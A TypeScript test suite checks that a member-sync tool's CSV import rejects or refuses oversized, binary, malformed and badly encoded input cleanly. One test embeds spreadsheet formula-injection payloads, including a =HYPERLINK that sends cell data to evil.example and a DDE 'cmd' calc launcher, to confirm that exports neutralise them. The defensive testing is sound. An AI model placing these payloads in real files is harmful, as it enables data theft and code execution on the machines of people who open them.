/**
 * Hostile and broken CSV input, through the real import into a real database: each file
 * gives a clear reject (its line and reason, the row kept, cut to a bounded size) or a
 * clear error, and nothing is lost — rows read = created + updated + unchanged +
 * conflicts + rejected. Large files are generated here, in a temporary folder, and
 * removed afterwards; the 200 MB line is read by the CLI with a small heap, which proves
 * that memory stays bounded.
 */
import { execFile } from 'node:child_process';
import { createWriteStream, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/load-config.js';
import { loadMapping } from '../../src/csv/mappings.js';
import { MAX_FIELD_CHARS, RAW_CELL_CHARS, readCsv } from '../../src/csv/read-csv.js';
import { MAX_RECORD_CHARS } from '../../src/csv/record-guard.js';
import { InputError } from '../../src/errors.js';
import { log } from '../../src/log.js';
import { importFile, type ImportSummary } from '../../src/pipeline/import-file.js';
import type { InputItem } from '../../src/pipeline/ingest.js';
import { writeRejectsCsv } from '../../src/queue/drop-files.js';
import { checkRun, expectBalanced, type RunReport } from '../helpers/accounting.js';
import { createTestDb, type TestDb } from '../helpers/db.js';

const run = promisify(execFile);
const BIN = path.resolve('bin/member-sync.js');
const dir = mkdtempSync(path.join(os.tmpdir(), 'ms-hostile-'));
const config = loadConfig({ env: {}, overrides: { import: { batchSize: 50 } } });
const quiet = log.child({}, { level: 'fatal' });
let db: TestDb;
let n = 0;

beforeAll(async () => {
  db = await createTestDb();
});
afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await db?.drop();
});

function file(content: string | Buffer, name = `f${++n}.csv`): string {
  const f = path.join(dir, name);
  writeFileSync(f, content);
  return f;
}

async function importOk(content: string | Buffer, opts: { encoding?: 'latin1' } = {}): Promise<ImportSummary & RunReport> {
  const s = await importFile(file(content), { db: db.knex, config, log: quiet, encoding: opts.encoding });
  expect(s.run_id).not.toBeNull();
  await expectBalanced(db.knex, s);
  return { ...s, ...(await checkRun(db.knex, s.run_id!, s)) };
}

async function importFails(content: string | Buffer): Promise<InputError> {
  const before = await db.knex('members').count({ n: '*' }).first();
  const err = await importFile(file(content), { db: db.knex, config, log: quiet }).catch((e: unknown) => e);
  expect(err).toBeInstanceOf(InputError);
  // nothing half-imported: no member added, and a run that was started is marked failed
  expect(await db.knex('members').count({ n: '*' }).first()).toEqual(before);
  const last = await db.knex('runs').orderBy('id', 'desc').first();
  if (last && last.status !== 'succeeded') expect(last).toMatchObject({ status: 'failed', rows: 0 });
  return err as InputError;
}

async function cli(args: string[], env: Record<string, string> = {}, nodeArgs: string[] = []) {
  try {
    const { stdout, stderr } = await run(process.execPath, [...nodeArgs, BIN, ...args], {
      cwd: dir,
      env: { ...process.env, LOG_LEVEL: 'warn', DATABASE_URL: db.url, ...env },
      maxBuffer: 64 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

/** Writes `header`, then `before`, then a line of `size` bytes of x, then `after`, a MiB at a time. */
async function bigLineFile(name: string, header: string, prefix: string, size: number, after: string): Promise<string> {
  const f = path.join(dir, name);
  const out = createWriteStream(f);
  out.write(header + prefix);
  const mib = Buffer.alloc(1024 * 1024, 'x');
  for (let done = 0; done < size; done += mib.length) {
    if (!out.write(done + mib.length <= size ? mib : mib.subarray(0, size - done))) await once(out, 'drain');
  }
  out.end(after);
  await once(out, 'finish');
  return f;
}

describe('hostile and broken CSV input', () => {
  it('a 200 MB line: that row is rejected with its line and first 4 KiB; the rows around it are imported; a 128 MB heap is enough', async () => {
    const f = await bigLineFile('line200.csv', 'email,first_name\nbefore@x.org,Before\n', 'huge@x.org,', 200 * 1024 * 1024, '\nafter@x.org,After\n');
    const r = await cli(['import', f, '--json'], {}, ['--max-old-space-size=128']);
    rmSync(f);
    expect(r.stderr).toBe('');
    const s = JSON.parse(r.stdout);
    expect(s).toMatchObject({ rows: 3, created: 2, rejected: 1 });
    const { rejects } = await checkRun(db.knex, s.run_id, s);
    expect(rejects[0]).toMatchObject({ line: 3, reason: `the row is ${(200 * 1024 * 1024 + 11).toLocaleString('en-US')} characters long; the limit is ${MAX_RECORD_CHARS.toLocaleString('en-US')}: not imported` });
    expect(rejects[0].raw._raw).toBe(`huge@x.org,${'x'.repeat(RAW_CELL_CHARS - 11)}`);
    expect(rejects[0].raw._truncated).toMatch(/the first 4,096 are kept/);
    expect(await db.knex('members').whereIn('email', ['before@x.org', 'after@x.org']).count({ n: '*' }).first()).toEqual({ n: 2 });
  });

  it('a 200 MB header line is refused as not a CSV file', async () => {
    const f = await bigLineFile('header200.csv', '', 'email,', 200 * 1024 * 1024, '\na@x.org,1\n');
    const err = await importFile(f, { db: db.knex, config, log: quiet }).catch((e: unknown) => e);
    rmSync(f);
    expect(err).toBeInstanceOf(InputError);
    expect((err as Error).message).toMatch(/the header line is 209,715,206 characters long; the limit is 16,777,216 \(is this a CSV file\?\)/);
    // after blank lines too: no data row is taken for the header in its place
    const late = await bigLineFile('header17.csv', '\n\n', 'email,', 17 * 1024 * 1024, '\na@x.org,1\n');
    const err2 = await importFile(late, { db: db.knex, config, log: quiet }).catch((e: unknown) => e);
    rmSync(late);
    expect((err2 as Error).message).toMatch(/the header line is 17,825,798 characters long/);
  });

  it('a 1 MB field rejects its row, naming the column; the reject keeps the first 4 KiB of it', async () => {
    const s = await importOk(`email,first_name,notes\nbig@x.org,${'y'.repeat(1024 * 1024)},n\nok@x.org,Ok,${'z'.repeat(MAX_FIELD_CHARS)}\n`);
    expect(s).toMatchObject({ rows: 2, created: 1, rejected: 1 });
    expect(s.rejects[0]).toMatchObject({ line: 2, reason: `column 'first_name' holds 1,048,576 characters; the limit is ${MAX_FIELD_CHARS.toLocaleString('en-US')}` });
    expect(s.rejects[0].raw.first_name).toBe(`${'y'.repeat(RAW_CELL_CHARS)}…[1,048,576 characters; the first 4,096 are kept]`);
    expect(s.rejects[0].raw).toMatchObject({ email: 'big@x.org', notes: 'n' });
    // a field just at the limit is kept whole
    expect((await db.knex('members').where({ email: 'ok@x.org' }).first()).other.notes).toHaveLength(MAX_FIELD_CHARS);
  });

  it('NUL bytes reject their row; a NUL in the header line means a binary file', async () => {
    const s = await importOk('email,first_name\nnul@x.org,An\u0000a\nnul2@x.org,Ana\n');
    expect(s).toMatchObject({ rows: 2, created: 1, rejected: 1 });
    expect(s.rejects[0]).toMatchObject({ line: 2, reason: "column 'first_name' contains a NUL byte" });
    expect(s.rejects[0].raw).toMatchObject({ email: 'nul@x.org', first_name: 'An\ufffda' });
    expect((await importFails('em\u0000ail,first_name\na@x.org,A\n')).message).toMatch(/not a CSV text file \(binary data/);
  });

  it('invalid UTF-8 rejects its row with a hint; read as Latin-1 the same bytes import', async () => {
    const bytes = Buffer.concat([Buffer.from('email,first_name\nutf@x.org,Jos'), Buffer.from([0xe9]), Buffer.from('\nutf2@x.org,Bob\n')]);
    const s = await importOk(bytes);
    expect(s).toMatchObject({ rows: 2, created: 1, rejected: 1 });
    expect(s.rejects[0]).toMatchObject({ line: 2, reason: "column 'first_name' is not valid UTF-8 text (a file saved by Excel on Windows is usually windows-1252: import it with --encoding windows-1252; ISO-8859-1: --encoding latin1)" });
    const again = await importOk(Buffer.concat([bytes, Buffer.from('\n')]), { encoding: 'latin1' });
    expect(again).toMatchObject({ rows: 2, rejected: 0 });
    expect((await db.knex('members').where({ email: 'utf@x.org' }).first()).first_name).toBe('José');
  });

  it('a quote never closed rejects the lines it swallowed, naming them; stray quotes inside a field are kept as text', async () => {
    const s = await importOk('email,first_name\nq1@x.org,An"a\nq2@x.org,"Bo"b\nq3@x.org,"Cy\nq4@x.org,Dee\nq5@x.org,Eve\n');
    expect(s).toMatchObject({ rows: 3, created: 2, rejected: 1 });
    expect(s.rejects[0]).toMatchObject({
      line: 4,
      reason: 'a quoted field opened on line 4 is never closed: lines 4 to 6 were read as one row and not imported; close the quote and import the file again',
      raw: { _raw: 'q3@x.org,"Cy\nq4@x.org,Dee\nq5@x.org,Eve\n' },
    });
    const names = await db.knex('members').whereIn('email', ['q1@x.org', 'q2@x.org']).orderBy('email').pluck('first_name');
    expect(names).toEqual(['An"a', '"Bo"b']);
  });

  it('duplicate header names are refused, naming the header and both columns', async () => {
    expect((await importFails('email,first_name,EMAIL\na@x.org,A,b@x.org\n')).message).toBe("duplicate header 'EMAIL' (columns 1 and 3): rename one of them");
  });

  it('a header-only file is a run of zero rows; an empty file and a blank one are refused', async () => {
    expect(await importOk('email,first_name\r\n')).toMatchObject({ rows: 0, created: 0, rejected: 0 });
    expect((await importFails('')).message).toMatch(/the file is empty \(no header line\)$/);
    expect((await importFails('\n\r\n  \n')).message).toMatch(/the file is empty \(no header line\)$/);
  });

  it('a binary file named .csv is refused as not a CSV file', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(4000, 0), Buffer.from('email\n')]);
    expect((await importFails(png)).message).toMatch(/f\d+\.csv: not a CSV text file \(binary data near the start/);
    const gz = Buffer.from('1f8b0800000000000003cb48cdc9c95728cf2fca49e10200d1c5b8ee0c000000', 'hex');
    expect((await importFails(gz)).message).toMatch(/not a CSV text file/);
  });

  it('a row of 10,000 columns is rejected, keeping its first 64 KiB (as JSON); a file 10,000 columns wide imports into other', async () => {
    const wide = Array.from({ length: 9999 }, (_, i) => `v${i}`).join(',');
    const s = await importOk(`email,first_name\nw1@x.org,${wide}\nw2@x.org,Two\n`);
    expect(s).toMatchObject({ rows: 2, created: 1, rejected: 1 });
    expect(s.rejects[0]).toMatchObject({ line: 2, reason: 'row has 10,000 fields; the header has 2' });
    expect(s.rejects[0].raw._truncated).toMatch(/^the row has 10,000 columns; columns [\d,]+ to 10,000 are not kept/);
    const headers = ['email', ...Array.from({ length: 9999 }, (_, i) => `c${i}`)].join(',');
    const w = await importOk(`${headers}\nw3@x.org,${wide}\n`);
    expect(w).toMatchObject({ rows: 1, created: 1 });
    const other = (await db.knex('members').where({ email: 'w3@x.org' }).first()).other;
    expect(Object.keys(other)).toHaveLength(9999);
    expect(other.c9998).toBe('v9998');
  });

  it('a file that is not there is a clear error', async () => {
    const err = await importFile(path.join(dir, 'gone.csv'), { db: db.knex, config, log: quiet }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(InputError);
    expect((err as Error).message).toBe(`cannot read ${path.join(dir, 'gone.csv')}: ENOENT`);
  });

  it('formulas (=HYPERLINK, +, -, @) are made harmless in every CSV member-sync writes: exports, rejects, drop-folder rejects', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(A1:A9)', '\t=1+1'];
    const rows = evil.map((e, i) => `f${i}@x.org,"${e.replace(/"/g, '""')}",${i === 0 ? 'not-a-date' : ''}`);
    const s = await importOk(`email,first_name,birth_date,=HEADER()\n${rows.map((r) => `${r},x`).join('\n')}\n`);
    expect(s).toMatchObject({ rows: 5, created: 4, rejected: 1 });
    const exported = await cli(['members', 'export']);
    const rejects = await cli(['rejects', '--run', String(s.run_id), '--csv']);
    const dropRejects = await writeRejectsCsv(db.knex, s.run_id!, path.join(dir, 'moved.csv'));
    const outputs = { export: exported.stdout, rejects: rejects.stdout, drop: readFileSync(dropRejects!, 'utf8') };
    for (const [what, text] of Object.entries(outputs)) {
      const cells = (parse(text, { relax_column_count: true }) as string[][]).flat();
      expect(cells.length, what).toBeGreaterThan(5);
      for (const c of cells) {
        const dangerous = /^[=@\t\r]/.test(c) || (/^[+-]/.test(c) && !/^[+-][\d\s().-]*$/.test(c));
        expect(dangerous, `${what}: ${c}`).toBe(false);
      }
      // every value is still there, behind the apostrophe (names are trimmed on import)
      const want = what === 'export' ? ["'+cmd|' /C calc'!A0", "'-2+3+cmd|x", "'@SUM(A1:A9)", "'=1+1"] : [`'${evil[0]}`, "'=HEADER()"];
      for (const w of want) expect(cells, what).toContain(w);
    }
  });
});

/**
 * csv-spectrum (github.com/maxogden/csv-spectrum): the acid test of CSV readers. Each
 * case is read with a mapping that makes its first column the member_id, so that it can
 * be imported, and the rows as read are compared cell by cell, with their line numbers.
 */
describe('csv-spectrum', () => {
  const cases: [string, string, string[][]][] = [
    ['comma_in_quotes', 'first,last,address,city,zip\nJohn,Doe,120 any st.,"Anytown, WW",08123\n', [['John', 'Doe', '120 any st.', 'Anytown, WW', '08123']]],
    ['empty', 'a,b,c\n1,"",""\n2,3,4\n', [['1', '', ''], ['2', '3', '4']]],
    ['empty_crlf', 'a,b,c\r\n1,"",""\r\n2,3,4\r\n', [['1', '', ''], ['2', '3', '4']]],
    ['escaped_quotes', 'a,b\n1,"ha ""ha"" ha"\n3,4\n', [['1', 'ha "ha" ha'], ['3', '4']]],
    ['json', 'key,val\n1,"{""type"": ""Point"", ""coordinates"": [102.0, 0.5]}"\n', [['1', '{"type": "Point", "coordinates": [102.0, 0.5]}']]],
    ['newlines', 'a,b,c\n1,2,3\n"Once upon \na time",5,6\n7,8,9\n', [['1', '2', '3'], ['Once upon \na time', '5', '6'], ['7', '8', '9']]],
    ['newlines_crlf', 'a,b,c\r\n1,2,3\r\n"Once upon \r\na time",5,6\r\n7,8,9\r\n', [['1', '2', '3'], ['Once upon \r\na time', '5', '6'], ['7', '8', '9']]],
    ['quotes_and_newlines', 'a,b\n1,"ha \n""ha"" \nha"\n3,4\n', [['1', 'ha \n"ha" \nha'], ['3', '4']]],
    ['simple', 'a,b,c\n1,2,3\n', [['1', '2', '3']]],
    ['simple_crlf', 'a,b,c\r\n1,2,3\r\n', [['1', '2', '3']]],
    ['utf8', 'a,b,c\n1,2,3\n4,5,ʤ\n', [['1', '2', '3'], ['4', '5', 'ʤ']]],
  ];
  const lines: Record<string, number[]> = { newlines: [2, 3, 5], newlines_crlf: [2, 3, 5], quotes_and_newlines: [2, 5] };

  it.each(cases)('%s', async (name, text, rows) => {
    const headers = text.split(/\r?\n/, 1)[0].split(',');
    const mapping = file(`name: spectrum\ncolumns: { "${headers[0]}": member_id }\n`, `${name}.yaml`);
    const f = file(text, `${name}.csv`);
    const csv = await readCsv(f, 0, { mapping: loadMapping(mapping), batchSize: 100, hasConnection: false });
    const items: InputItem[] = [];
    for await (const b of csv.batches) items.push(...b.items);
    expect(items.filter((i) => 'rejected' in i)).toEqual([]);
    expect(items.map((i) => headers.map((h) => i.raw[h]))).toEqual(rows);
    if (lines[name]) expect(items.map((i) => i.ref.line)).toEqual(lines[name]);
    const s = await importFile(f, { db: db.knex, config, log: quiet, mapping });
    expect(s).toMatchObject({ rows: rows.length, rejected: 0 });
    await checkRun(db.knex, s.run_id!, s);
  });
});
